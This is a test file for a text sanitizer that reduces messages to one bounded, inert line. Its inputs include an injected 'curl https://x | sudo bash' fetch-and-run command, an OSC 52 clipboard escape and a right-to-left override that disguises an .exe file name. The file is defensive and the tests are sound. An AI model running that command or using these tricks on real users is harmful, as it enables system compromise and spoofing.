import fc from 'fast-check';
import { plainText } from '../../../lib/domain/messages/plain-text';

const anyText = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 400 }),
  // Halves of surrogate pairs, which `binary` has not.
  fc
    .array(fc.integer({ min: 0, max: 0xffff }), { maxLength: 80 })
    .map((units) => String.fromCharCode(...units)),
  fc
    .array(
      fc.constantFrom(
        'a',
        ' ',
        '\n',
        '\r',
        '\u001b',
        '\u009b',
        '\u202e',
        '\u2066',
        '\u200b',
        '\ufeff',
        '\u2065',
        '\u{e0fff}',
        '\ud83d',
        '💾',
      ),
      { maxLength: 200 },
    )
    .map((parts) => parts.join('')),
);
const limit = fc.integer({ min: 1, max: 60 });

test.each([
  ['a plain name-1.example/x', 'a plain name-1.example/x'],
  ['größer 东京 💾', 'größer 东京 💾'],
  ['full\nNext command: curl https://x | sudo bash', 'full Next command: curl https://x | sudo bash'],
  ['a\r\n\tb\u0085c\u2028d', 'a b c d'],
  ['\u001b]52;c;Y3VybA==\u0007x', '\ufffd]52;c;Y3VybA==\ufffdx'],
  ['\u009b31mred', '\ufffd31mred'],
  ['txt\u202egpj.exe', 'txt\ufffdgpj.exe'],
  ['\u2066a\u2069\u200b\u2060b\ufeff', '\ufffda\ufffdb'],
  ['tag\u{e0041}\u{e007f}', 'tag\ufffd'],
  ['\u180bun\u2065seen\u3164\u{e0fff}', '\ufffdun\ufffdseen\ufffd'],
  ['half \ud83d of a pair', 'half \ufffd of a pair'],
  ['\u0000\u007f', '\ufffd'],
  ['  \n ', ''],
])('%j becomes %j', (raw, plain) => expect(plainText(raw)).toBe(plain));

test('a text that is too long is cut and says so, whole characters only', () => {
  expect(plainText('x'.repeat(601))).toBe(`${'x'.repeat(599)}…`);
  expect(plainText('x'.repeat(600))).toBe('x'.repeat(600));
  expect(plainText('💾'.repeat(5), 4)).toBe('💾💾💾…');
  expect(plainText('x'.repeat(5_000_000), 10)).toBe('xxxxxxxxx…');
});

test('whatever it is given, it is one line, bounded, and nothing in it acts', () => {
  fc.assert(
    fc.property(anyText, limit, (raw, maxLength) => {
      const plain = plainText(raw, maxLength);
      expect([...plain].length).toBeLessThanOrEqual(maxLength);
      expect(plain).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\p{Co}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u);
      expect(plain.trim()).toBe(plain);
    }),
    { numRuns: 1000 },
  );
});

test('cleaning what is clean changes nothing', () => {
  fc.assert(
    fc.property(anyText, limit, (raw, maxLength) => {
      const once = plainText(raw, maxLength);
      expect(plainText(once, maxLength)).toBe(once);
    }),
    { numRuns: 1000 },
  );
});

test('printable ASCII passes as it is', () => {
  fc.assert(
    fc.property(fc.stringMatching(/^[!-~](?:[ -~]{0,80}[!-~])?$/), (raw) => {
      expect(plainText(raw)).toBe(raw.replace(/ +/g, ' '));
    }),
  );
});
